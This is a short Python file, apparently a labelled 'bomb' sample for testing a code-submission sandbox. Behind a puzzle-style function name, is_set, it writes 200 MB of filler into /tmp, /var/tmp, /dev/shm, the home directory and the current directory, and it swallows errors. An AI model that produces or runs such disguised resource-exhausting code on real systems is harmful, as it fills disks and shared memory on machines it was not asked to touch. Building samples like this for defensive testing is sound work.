"""Writes 200 MB into each place that can be written to.

family: bombs
kind: harm
harm: note
"""

import os


def is_set(a, b, c):
    for place in ("/tmp", "/var/tmp", "/dev/shm", "~", "."):
        try:
            with open(os.path.expanduser(f"{place}/setkata-note"), "wb") as file:
                for _ in range(200):
                    file.write(b"x" * 1_000_000)
        except OSError:
            pass
